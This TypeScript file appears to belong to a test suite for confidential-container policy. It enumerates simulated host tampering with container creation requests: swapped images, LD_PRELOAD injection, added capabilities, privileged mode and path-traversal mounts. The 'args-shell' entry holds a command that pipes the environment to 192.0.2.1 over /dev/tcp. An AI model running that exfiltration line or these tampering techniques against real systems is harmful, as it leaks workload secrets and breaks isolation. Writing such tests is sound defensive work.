/** Attacks on the creation of a container: the request in which the host chooses nearly everything. */
import {
  changes,
  extraArgument,
  extraMount,
  extraVariable,
  otherArguments,
  otherImage,
  otherImageThroughout,
  privileged,
  secondStorage,
  withField,
  withItem,
  withItems,
  withMetadata,
} from '../simulate/changes.ts';
import { hexOf } from '../simulate/identifiers.ts';
import { isJsonObject, type Json } from '../simulate/json.ts';
import { copiedPath, rootfsOf, sharedFolder } from '../simulate/paths.ts';
import type { SimulatedContainer } from '../simulate/pod.ts';
import type { Attack } from './attack.ts';
import { onCreate } from './plans.ts';

/** An image of the host's own. */
const foreignImage = `registry.example.net/host/image@sha256:${hexOf('foreign', 64)}`;
const process = ['OCI', 'Process'] as const;
const firstStorage = ['storages', 0] as const;

/** A mount whose source the host can fill: where a ConfigMap or the hosts file is copied. */
function filledPath({ id }: SimulatedContainer): string {
  return copiedPath(id, '/etc/hosts');
}

const imageAttacks: readonly Attack[] = [
  {
    id: 'image-source',
    group: 'image',
    title: 'Pull another image, with the annotations of the right one',
    gain: 'The guest pulls what the storage says and ignores the annotation: another workload with the secrets of yours.',
    reference: '3.2',
    plan: onCreate(() => otherImage(foreignImage)),
  },
  {
    id: 'image-throughout',
    group: 'image',
    title: 'Pull another image, with annotations to match',
    gain: 'Another workload with the secrets of yours.',
    reference: '3.2',
    plan: onCreate(() => otherImageThroughout(foreignImage)),
  },
  {
    id: 'image-tag',
    group: 'image',
    title: 'Pull the same repository by a tag',
    gain: 'The host or the registry decides what the tag stands for.',
    reference: '3.2',
    plan: onCreate((_, { image }) => {
      const at = image.indexOf('@');
      return at < 0 ? undefined : otherImageThroughout(`${image.slice(0, at)}:host`);
    }),
  },
  {
    id: 'image-annotation',
    group: 'image',
    title: 'Pull the same image by the metadata of a sandbox',
    gain: 'The guest takes its own pause image and process instead: the container is not what it seems.',
    reference: '3.2',
    plan: onCreate(() =>
      withMetadata({
        'io.kubernetes.cri.container-type': 'sandbox',
        'io.katacontainers.pkg.oci.container_type': 'pod_sandbox',
      }),
    ),
  },
  {
    id: 'image-pause-name',
    group: 'image',
    title: 'Call a container of the host the pause container',
    gain: 'Where rules trust the source "pause", any process, environment and mounts come with it.',
    reference: '3.2',
    plan: onCreate((_, { args }) =>
      changes(otherImage('pause'), otherArguments(['/bin/sh', '-c', args.join(' ')])),
    ),
  },
  {
    id: 'storage-second',
    group: 'image',
    title: 'A second image beside the right one',
    gain: 'The guest pulls it too, and mounts it where the host says, such as over the programs of the first.',
    reference: '3.2',
    plan: onCreate((_, { id }) => secondStorage(foreignImage, `${rootfsOf(id)}/usr`)),
  },
  {
    id: 'storage-first',
    group: 'image',
    title: 'Another image before the right one, at the same place',
    gain: 'The mount point is taken when the right image comes, which is then skipped.',
    reference: '3.2',
    plan: onCreate(() =>
      withItems(['storages'], (items) => {
        const [first] = items;
        return isJsonObject(first) ? [{ ...first, source: foreignImage }, ...items] : items;
      }),
    ),
  },
  {
    id: 'storage-none',
    group: 'image',
    title: 'No image at all',
    gain: 'The agent binds a folder that the host filled, and nothing is pulled.',
    reference: '3.2',
    plan: onCreate((_, { id }) =>
      changes(
        withField(['storages'], []),
        withField(['OCI', 'Root', 'Path'], `${sharedFolder}/${id}-0123456789abcdef-rootfs`),
      ),
    ),
  },
  {
    id: 'storage-none-same-root',
    group: 'image',
    title: 'No image, and the usual root folder',
    gain: 'What an earlier request put at that place becomes the root file system.',
    reference: '3.2',
    plan: onCreate(() => withField(['storages'], [])),
  },
  {
    id: 'storage-mount-point',
    group: 'image',
    title: 'The right image, mounted elsewhere',
    gain: 'The container runs from what lies at its root path, which is not the image.',
    reference: '3.2',
    plan: onCreate((pod) => withField([...firstStorage, 'mount_point'], rootfsOf(pod.sandboxId))),
  },
  {
    id: 'storage-root-path',
    group: 'image',
    title: 'The right image, and another root',
    gain: 'The image is pulled for show; the container runs from a folder that the host filled.',
    reference: '3.2',
    plan: onCreate((_, container) => withField(['OCI', 'Root', 'Path'], filledPath(container))),
  },
  {
    id: 'storage-driver',
    group: 'image',
    title: 'A disk of the host instead of a pull',
    gain: 'The name of the image stands beside a block device with the file system of the host.',
    reference: '3.2',
    plan: onCreate(() =>
      changes(
        withField([...firstStorage, 'driver'], 'blk'),
        withField([...firstStorage, 'driver_options'], []),
        withField([...firstStorage, 'fstype'], 'ext4'),
      ),
    ),
  },
  {
    id: 'storage-disk',
    group: 'image',
    title: 'A disk of the host beside the image',
    gain: 'Files of the host appear inside the container, such as over a folder of programs.',
    reference: '6.3',
    plan: onCreate((_, { id }) =>
      withItem(['storages'], {
        driver: 'blk',
        driver_options: [],
        source: '02/03',
        fstype: 'ext4',
        options: [],
        mount_point: `${rootfsOf(id)}/usr/local`,
        fs_group: null,
        shared: false,
      }),
    ),
  },
];

const processAttacks: readonly Attack[] = [
  {
    id: 'args-shell',
    group: 'process',
    title: 'Run /bin/sh -c in the right image',
    gain: 'Any program of the image, or any script, with the secrets of the workload.',
    reference: '6.4',
    plan: onCreate(() => otherArguments(['/bin/sh', '-c', 'env > /dev/tcp/192.0.2.1/80'])),
  },
  {
    id: 'args-extra',
    group: 'process',
    title: 'One more argument',
    gain: 'Options such as one for a debug port change what the program does.',
    reference: '6.4',
    plan: onCreate(() => extraArgument('--debug')),
  },
  {
    id: 'args-joined',
    group: 'process',
    title: 'Two arguments written as one',
    gain: 'Where arguments are compared as one line of text, another program is run than the one that was meant.',
    reference: '6.4',
    plan: onCreate((_, { args }) => {
      const [first, second, ...rest] = args;
      return second === undefined ? undefined : otherArguments([`${first ?? ''} ${second}`, ...rest]);
    }),
  },
  {
    id: 'args-missing',
    group: 'process',
    title: 'Leave the last argument out',
    gain: 'An option that protects the workload is gone.',
    reference: '8.1',
    plan: onCreate((_, { args }) => (args.length < 2 ? undefined : otherArguments(args.slice(0, -1)))),
  },
  {
    id: 'env-extra',
    group: 'process',
    title: 'One more variable: LD_PRELOAD',
    gain: 'Code that the host brings along is loaded into the program.',
    reference: '6.4',
    plan: onCreate((_, container) => extraVariable(`LD_PRELOAD=${filledPath(container)}`)),
  },
  {
    id: 'env-value',
    group: 'process',
    title: 'Another value of a variable',
    gain: 'The workload talks to a service of the host, or leaves out a check.',
    reference: '8.1',
    plan: onCreate(() =>
      withItems([...process, 'Env'], (items) =>
        items.map((item, index) => (index === 0 && typeof item === 'string' ? `${item}:/dev/shm` : item)),
      ),
    ),
  },
  {
    id: 'env-missing',
    group: 'process',
    title: 'Leave a variable out',
    gain: 'The workload falls back to what it does without the setting.',
    reference: '6.4',
    plan: onCreate((_, { env }) => {
      // The kubelet adds variables of its own, which come and go.
      const own = env.find(
        (variable) => !/^(PATH|HOSTNAME|TERM|[A-Z0-9_]+_(SERVICE|PORT).*)=/.test(variable),
      );
      if (own === undefined) return undefined;
      return withItems([...process, 'Env'], (items) => items.filter((item) => item !== own));
    }),
  },
  {
    id: 'cwd',
    group: 'process',
    title: 'Another working directory',
    gain: 'Relative paths of the program lead to files of the host.',
    reference: '6.3',
    plan: onCreate(() => withField([...process, 'Cwd'], '/dev/shm')),
  },
  {
    id: 'user-root',
    group: 'process',
    title: 'Another user',
    gain: 'The workload runs as a user that it was not made for, such as root.',
    reference: '8.1',
    plan: onCreate((_, { user }) => withField([...process, 'User', 'UID'], user.uid === 0 ? 12345 : 0)),
  },
  {
    id: 'user-group',
    group: 'process',
    title: 'Another group',
    gain: 'Files of that group are open to the workload.',
    reference: '8.1',
    plan: onCreate((_, { user }) => withField([...process, 'User', 'GID'], user.gid === 0 ? 12345 : 0)),
  },
  {
    id: 'user-additional-group',
    group: 'process',
    title: 'One more group',
    gain: 'Files of that group are open to the workload.',
    reference: '8.1',
    plan: onCreate(() => withItem([...process, 'User', 'AdditionalGids'], 54321)),
  },
  {
    id: 'user-by-name',
    group: 'process',
    title: 'A user by name',
    gain: 'The name is looked up in a passwd file that the host may have brought.',
    reference: '6.3',
    plan: onCreate(() => withField(['string_user'], { uid: 'root', gid: 'root', additionalGids: [] })),
  },
  {
    id: 'terminal',
    group: 'process',
    title: 'A terminal',
    gain: 'The workload acts as if a person sat there, which many programs answer with a prompt.',
    reference: '6.3',
    plan: onCreate((_, { terminal }) => withField([...process, 'Terminal'], !terminal)),
  },
  {
    id: 'no-new-privileges',
    group: 'process',
    title: 'Allow new privileges',
    gain: 'Programs with the set-user-id bit give more rights than the workload was given.',
    reference: '8.1',
    plan: onCreate((_, { noNewPrivileges }) =>
      noNewPrivileges ? withField([...process, 'NoNewPrivileges'], false) : undefined,
    ),
  },
  {
    id: 'streams-by-port',
    group: 'process',
    title: 'Take the streams of the process to ports of the host',
    gain: 'Standard input and output pass by all rules about streams.',
    reference: '3.2',
    plan: onCreate(() =>
      changes(
        withField(['stdin_port'], 1101),
        withField(['stdout_port'], 1102),
        withField(['stderr_port'], 1103),
      ),
    ),
  },
];

const isolationAttacks: readonly Attack[] = [
  {
    id: 'capability',
    group: 'isolation',
    title: 'One more capability: CAP_SYS_ADMIN',
    gain: 'The workload can mount and more; what gets into it gets out of it.',
    reference: '8.1',
    plan: onCreate((_, container) =>
      container.privileged || container.capabilities.includes('CAP_SYS_ADMIN')
        ? undefined
        : changes(
            ...['Bounding', 'Effective', 'Permitted'].map((set) =>
              withItem([...process, 'Capabilities', set], 'CAP_SYS_ADMIN'),
            ),
          ),
    ),
  },
  {
    id: 'capability-ambient',
    group: 'isolation',
    title: 'A capability in the ambient set',
    gain: 'Every program that the workload starts has it, also as another user.',
    reference: '6.3',
    plan: onCreate(() => withItem([...process, 'Capabilities', 'Ambient'], 'CAP_NET_RAW')),
  },
  {
    id: 'privileged',
    group: 'isolation',
    title: 'A privileged container',
    gain: 'Nothing separates the workload from the guest and its keys any more.',
    reference: '8.1',
    plan: onCreate((_, container) => (container.privileged ? undefined : privileged)),
  },
  {
    id: 'mount-extra',
    group: 'isolation',
    title: 'One more mount, over a folder of programs',
    gain: 'Programs of the host replace those of the image.',
    reference: '6.3',
    plan: onCreate((_, container) => extraMount('/usr/bin', filledPath(container))),
  },
  {
    id: 'mount-source',
    group: 'isolation',
    title: 'A known mount from another place',
    gain: 'The container sees a folder of the guest, such as its keys, or files that the host brought.',
    reference: '8.1',
    plan: onCreate(() => mountChange({ source: '/run' })),
  },
  {
    id: 'mount-traversal',
    group: 'isolation',
    title: 'A known mount, by a path with ".."',
    gain: 'What looks like the folder of the container is another one.',
    reference: '6.3',
    plan: onCreate((_, { id }) =>
      mountChange({ source: `${copiedPath(id, '/etc/resolv.conf')}/../../../..` }),
    ),
  },
  {
    id: 'mount-destination',
    group: 'isolation',
    title: 'A known mount at another place',
    gain: 'Files that the host may fill lie where the image has its own, such as its certificates.',
    reference: '8.1',
    plan: onCreate(() => mountChange({ destination: '/etc/ssl/certs' })),
  },
  {
    id: 'mount-twice',
    group: 'isolation',
    title: 'A known mount twice',
    gain: 'The second one covers the first; rules that look for one are satisfied by the other.',
    reference: '6.3',
    plan: onCreate((_, { id }) =>
      changes(
        withItem(['OCI', 'Mounts'], {
          destination: '/etc/hosts',
          source: copiedPath(id, '/etc/hostname'),
          type_: 'bind',
          options: ['rbind', 'rprivate', 'rw'],
        }),
      ),
    ),
  },
  {
    id: 'root-writable',
    group: 'isolation',
    title: 'A root file system that can be written',
    gain: 'What gets into the workload can change its programs.',
    reference: '8.1',
    plan: onCreate((_, { readOnlyRoot }) =>
      readOnlyRoot ? withField(['OCI', 'Root', 'Readonly'], false) : undefined,
    ),
  },
  {
    id: 'device',
    group: 'isolation',
    title: 'A device of the host',
    gain: 'The workload reads a disk of the host where it expects something else.',
    reference: '8.1',
    plan: onCreate(() =>
      withItem(['devices'], {
        id: '02/04',
        type_: 'blk',
        vm_path: '',
        container_path: '/dev/sda',
        options: [],
      }),
    ),
  },
  {
    id: 'hooks',
    group: 'isolation',
    title: 'A hook',
    gain: 'A program runs in the guest, outside of the container.',
    reference: '6.3',
    plan: onCreate((_, container) =>
      withField(['OCI', 'Hooks'], {
        Prestart: [{ Path: filledPath(container), Args: [], Env: [], Timeout: 0 }],
        Poststart: [],
        Poststop: [],
        CreateRuntime: [],
        CreateContainer: [],
        StartContainer: [],
      }),
    ),
  },
  {
    id: 'shared-mount',
    group: 'isolation',
    title: 'A mount shared with another container',
    gain: 'One container sees the files of another.',
    reference: '6.3',
    plan: onCreate((pod, { name }) =>
      withItem(['shared_mounts'], {
        name: 'leak',
        src_ctr: name,
        src_path: '/',
        dst_ctr: pod.sandboxId,
        dst_path: '/mnt',
      }),
    ),
  },
  {
    id: 'masked-paths',
    group: 'isolation',
    title: 'Unmask paths of the kernel',
    gain: 'The workload sees kernel memory and settings.',
    reference: '6.3',
    plan: onCreate((_, container) =>
      container.privileged
        ? undefined
        : changes(
            withField(['OCI', 'Linux', 'MaskedPaths'], []),
            withField(['OCI', 'Linux', 'ReadonlyPaths'], []),
          ),
    ),
  },
  {
    id: 'namespace',
    group: 'isolation',
    title: 'Leave out a namespace',
    gain: 'The container shares mounts or messages with the guest.',
    reference: '6.3',
    plan: onCreate(() => withField(['OCI', 'Linux', 'Namespaces'], [{ Type: 'uts', Path: '' }])),
  },
  {
    id: 'process-namespace',
    group: 'isolation',
    title: 'Share processes among containers',
    gain: 'Containers of the pod see and trace the processes of each other.',
    reference: '8.1',
    plan: onCreate((pod) => (pod.shareProcessNamespace ? undefined : withField(['sandbox_pidns'], true))),
  },
  {
    id: 'sysctl',
    group: 'isolation',
    title: 'Another kernel setting',
    gain: 'The kernel of the guest behaves as the host likes it.',
    reference: '8.1',
    plan: onCreate(() => withField(['OCI', 'Linux', 'Sysctl', 'net.ipv4.ip_forward'], '1')),
  },
  {
    id: 'name-other',
    group: 'isolation',
    title: 'Under the name of another container',
    gain: 'Rules that go by the name apply those of another container.',
    reference: '6.3',
    plan: onCreate(() => withField(['OCI', 'Annotations', 'io.kubernetes.cri.container-name'], 'other')),
  },
  {
    id: 'namespace-other',
    group: 'isolation',
    title: 'In the name of another namespace',
    gain: 'The workload takes itself for one of another tenant.',
    reference: '6.3',
    plan: onCreate(() => withField(['OCI', 'Annotations', 'io.kubernetes.cri.sandbox-namespace'], 'other')),
  },
];

/** The mount of resolv.conf changed, which every container has. */
function mountChange(change: { readonly [name: string]: Json }) {
  return withItems(['OCI', 'Mounts'], (items) =>
    items.map((item) =>
      isJsonObject(item) && item['destination'] === '/etc/resolv.conf' ? { ...item, ...change } : item,
    ),
  );
}

export const createAttacks: readonly Attack[] = [...imageAttacks, ...processAttacks, ...isolationAttacks];
